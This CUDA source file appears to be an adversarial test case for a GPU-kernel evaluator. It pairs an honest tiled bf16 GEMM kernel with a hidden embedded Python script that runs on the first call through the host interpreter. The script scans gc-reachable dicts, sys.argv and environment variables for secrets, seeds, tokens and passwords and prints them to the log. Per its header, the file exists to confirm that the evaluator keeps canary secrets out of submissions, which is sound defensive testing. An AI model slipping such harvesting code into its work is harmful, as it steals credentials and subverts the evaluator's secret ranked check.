// Class 6 (environment). Trick: look for secrets through the Python interpreter that hosts the candidate: every
// dict reachable through gc (tracked, or referenced by a tracked object: the job the evaluator was given, the
// Session's state) with a key naming a seed, secret or token, then sys.argv and os.environ, all printed to the
// captured log (filtered, cut short, the environment last so it stays in the 4 KiB tail). Honest SIMT
// GEMM. The evaluator must: keep the ranked check's secret seed and the portal's secrets out of the candidate's
// process entirely: the corpus runner plants canary values (environment and run seed) and the log must lack them.
#include <cuda_bf16.h>
#include <cuda_runtime.h>
#include <tvm/ffi/container/tensor.h>
#include <tvm/ffi/error.h>
#include <tvm/ffi/extra/c_env_api.h>
#include <tvm/ffi/function.h>

// Honest tiled SIMT GEMM (as tests/kernels/simt_gemm.cu): C[M,N] = A[M,K] @ B[N,K]^T, bf16 in, fp32 accumulate.
__global__ void gemm_tiled(const __nv_bfloat16* __restrict__ a, const __nv_bfloat16* __restrict__ b,
                           __nv_bfloat16* __restrict__ c, int m, int n, int k) {
  __shared__ float as[32][33], bs[32][33];
  const int tx = threadIdx.x, ty = threadIdx.y, row0 = blockIdx.y * 32, col0 = blockIdx.x * 32;
  float acc[4] = {0.f, 0.f, 0.f, 0.f};
  for (int k0 = 0; k0 < k; k0 += 32) {
    for (int r = ty; r < 32; r += 8) {
      const int ak = k0 + tx;
      as[r][tx] = (row0 + r < m && ak < k) ? __bfloat162float(a[(size_t)(row0 + r) * k + ak]) : 0.f;
      bs[r][tx] = (col0 + r < n && ak < k) ? __bfloat162float(b[(size_t)(col0 + r) * k + ak]) : 0.f;
    }
    __syncthreads();
#pragma unroll 8
    for (int kk = 0; kk < 32; ++kk) {
      const float bv = bs[tx][kk];
#pragma unroll
      for (int i = 0; i < 4; ++i) acc[i] += as[ty * 4 + i][kk] * bv;
    }
    __syncthreads();
  }
#pragma unroll
  for (int i = 0; i < 4; ++i) {
    const int r = row0 + ty * 4 + i, col = col0 + tx;
    if (r < m && col < n) c[(size_t)r * n + col] = __float2bfloat16(acc[i]);
  }
}

static void launch_gemm(const void* a, const void* b, void* c, int m, int n, int k, cudaStream_t stream) {
  gemm_tiled<<<dim3((n + 31) / 32, (m + 31) / 32), dim3(32, 8), 0, stream>>>(
      static_cast<const __nv_bfloat16*>(a), static_cast<const __nv_bfloat16*>(b), static_cast<__nv_bfloat16*>(c), m,
      n, k);
}

static cudaStream_t framework_stream(const tvm::ffi::TensorView& t) {
  return static_cast<cudaStream_t>(TVMFFIEnvGetStream(t.device().device_type, t.device().device_id));
}
// Weak references to the Python C API: resolved at load time against the interpreter that hosts the candidate
// (no dlsym); null where there is no Python in the process.
extern "C" {
__attribute__((weak)) int PyGILState_Ensure(void);
__attribute__((weak)) void PyGILState_Release(int);
__attribute__((weak)) int PyRun_SimpleString(const char*);
}

static bool run_python(const char* code) {
  if (PyRun_SimpleString == nullptr || PyGILState_Ensure == nullptr || PyGILState_Release == nullptr) return false;
  const int gil = PyGILState_Ensure();
  const bool ok = PyRun_SimpleString(code) == 0;
  PyGILState_Release(gil);
  return ok;
}

static const char kLook[] =
    "def _adv_look():\n"
    "    import gc, os, re, sys\n"
    "    want = re.compile('secret|seed|token|canary|password', re.I)\n"
    "    seen, shown = set(), 0\n"
    "    for o in gc.get_objects():\n"
    "        try:\n"
    "            dicts = ([o] if isinstance(o, dict) else []) + [r for r in gc.get_referents(o) if type(r) is dict]\n"
    "            for d in dicts:\n"
    "                if id(d) in seen or shown >= 30 or '__loader__' in d:\n"
    "                    continue  # module namespaces are noise\n"
    "                seen.add(id(d))\n"
    "                for k, v in list(d.items())[:200]:\n"
    "                    big = isinstance(v, (str, bytes)) and len(v) >= 8 or type(v) is int and abs(v) >= 1 << 20\n"
    "                    if isinstance(k, str) and want.search(k) and big and shown < 30:\n"
    "                        shown += 1\n"
    "                        print('[dict]', k, '=', (v.hex() if isinstance(v, bytes) else repr(v))[:120])\n"
    "        except Exception:\n"
    "            pass\n"
    "    print('[argv]', ' '.join(sys.argv)[:300])\n"
    "    for k, v in os.environ.items():\n"
    "        if want.search(k) or want.search(v):\n"
    "            print('[env]', k, '=', v[:120])\n"
    "    sys.stdout.flush()\n"
    "_adv_look()\n";

void run_impl(tvm::ffi::TensorView a, tvm::ffi::TensorView b, tvm::ffi::TensorView c) {
  const int m = a.shape()[0], k = a.shape()[1], n = b.shape()[0];
  static bool done = false;
  if (!done) done = run_python(kLook) || true;
  launch_gemm(a.data_ptr(), b.data_ptr(), c.data_ptr(), m, n, k, framework_stream(a));
}

TVM_FFI_DLL_EXPORT_TYPED_FUNC(run, run_impl);
